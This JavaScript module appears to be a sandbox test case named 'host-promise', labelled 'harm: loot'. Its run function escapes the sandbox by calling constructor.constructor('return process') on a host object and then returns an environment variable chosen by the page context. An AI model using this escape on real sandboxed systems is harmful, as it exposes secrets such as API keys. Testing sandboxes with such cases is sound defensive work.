// A promise of the host's has a constructor, and that has one.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'host-promise', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'host-promise' } } } },
  run(context) {
    const take = cache.get('key').constructor.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
